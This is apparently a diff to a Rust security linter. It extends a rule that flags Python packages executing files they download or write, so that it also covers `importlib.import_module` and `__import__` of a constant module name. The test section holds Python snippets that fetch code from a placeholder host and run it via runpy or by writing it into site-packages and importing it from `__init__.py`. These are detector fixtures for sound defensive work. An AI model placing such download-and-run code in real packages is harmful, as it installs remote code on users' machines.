@@ -227,7 +227,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
 }
 
 /// Callables a pickle can name that run commands or code when `loads` calls them.
-fn is_dangerous_pickled_callable(name: &str) -> bool {
+pub(crate) fn is_dangerous_pickled_callable(name: &str) -> bool {
     let (module, function) = name.rsplit_once('.').unwrap_or(("", name));
     match module {
         "os" | "posix" | "nt" => matches!(
@@ -371,11 +371,19 @@ fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
 /// `exec_module`: the module runs a file it just downloaded or wrote Python into, as a process
 /// start of it would (WH120's runs-saved-file), only inside this interpreter.
 fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str) {
-    let Some(path) = loaded_path(call, qualname) else {
+    let (text, path) = if let Some(path) = loaded_path(call, qualname) {
+        (
+            super::partial_text(checker, path).unwrap_or_default(),
+            Some(path),
+        )
+    } else if let Some(module) = imported_module_file(checker, call, qualname) {
+        // `importlib.import_module('_svc')` after writing a download to `…/_svc.py` on the
+        // path: the module runs the file it saved.
+        (module, None)
+    } else {
         return;
     };
-    let text = super::partial_text(checker, path).unwrap_or_default();
-    let Some(saved) = checker.saved_file_in(&text, Some(path)).cloned() else {
+    let Some(saved) = checker.saved_file_in(&text, path).cloned() else {
         return;
     };
     let (message, severity) =
@@ -387,6 +395,21 @@ fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str
         severity,
         vec!["exec", "runs-saved-file"],
     );
+}
+
+/// `/name.py` for `importlib.import_module('name')` or `__import__('name')` of a constant
+/// module name (`/pkg/mod.py` for `pkg.mod`): the file such an import would load.
+fn imported_module_file(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
+    if !matches!(qualname, "importlib.import_module" | "__import__") {
+        return None;
+    }
+    let name = checker.fold(call.arguments.args.first()?)?.as_text()?;
+    let valid = !name.is_empty()
+        && name.len() <= 200
+        && name
+            .split('.')
+            .all(|part| !part.is_empty() && part.chars().all(|c| c.is_alphanumeric() || c == '_'));
+    valid.then(|| format!("/{}.py", name.replace('.', "/")))
 }
 
 fn check_executed(
@@ -748,6 +771,10 @@ mod tests {
         let run_path = "import runpy, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/a.py', 'helper.py')\nrunpy.run_path('helper.py')\n";
         assert!(max_severity("p/pkg/__init__.py", run_path, "WH110") >= 0.8);
         // Loading a plugin file the package ships is what plugin systems do.
+        let written = "import importlib, site, os, sys, urllib.request\np = os.path.join(site.getusersitepackages(), '_svc.py')\nwith open(p, 'wb') as f:\n    f.write(urllib.request.urlopen('https://x.example.invalid/svc.py').read())\nsys.path.append(os.path.dirname(p))\nimportlib.import_module('_svc')\n";
+        assert!(max_severity("p/pkg/__init__.py", written, "WH110") >= 0.85);
+        let plain = "import importlib\nimportlib.import_module('json')\n";
+        assert!(max_severity("p/pkg/__init__.py", plain, "WH110") < 0.1);
         let plugin = "import importlib.util\ndef load(path):\n    spec = importlib.util.spec_from_file_location('plugin', path)\n    return importlib.util.module_from_spec(spec)\n";
         assert!(
             crate::rules::testing::findings("p/pkg/m.py", plugin)
